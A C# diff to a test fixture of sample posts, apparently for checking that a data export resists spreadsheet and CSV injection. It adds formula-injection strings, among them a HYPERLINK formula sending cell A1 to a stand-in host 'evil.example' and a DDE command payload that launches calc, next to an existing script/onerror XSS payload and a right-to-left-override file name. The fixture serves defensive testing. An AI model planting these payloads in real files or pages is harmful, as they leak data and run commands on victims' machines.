@@ -9,6 +9,19 @@ public static class SamplePosts
 {
     public const string ScriptPayload = "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\"> رحلة آمنة \u202Egnp.exe";
 
+    /// <summary>Texts a spreadsheet would run as formulas, or that break naive CSV; every one has the word "formula".</summary>
+    public static readonly string[] FormulaPosts =
+    [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"formula click\")",
+        "+cmd|' /C calc'!A0 formula",
+        "-2+3 formula",
+        "@SUM(1+1) formula",
+        "\t=1+1 formula",
+        "   =1+1 formula after spaces",
+        "formula, with \"quotes\", commas\r\nand a new line",
+        "＝1+1 full-width formula",
+    ];
+
     public static IReadOnlyList<StoredPost> All()
     {
         var posts = new List<StoredPost>
@@ -24,6 +37,7 @@ public static class SamplePosts
             Post(new PostKey("telegram", "4004"), "کسی راه رفتن به ترکیه را میداند؟ کمک کنید [phone:IR:ps_1234123412341234]", Category.MigrantRequest, 0.8, "fa", 11, "ps_migrant",
                 phones: ["ps_1234123412341234"]),
         };
+        posts.AddRange(FormulaPosts.Select((text, i) => Post(new PostKey("telegram", "f" + (i + 1).ToString(System.Globalization.CultureInfo.InvariantCulture)), text, Category.Unrelated, 0.6, "en", 5, null)));
         return posts;
     }
 
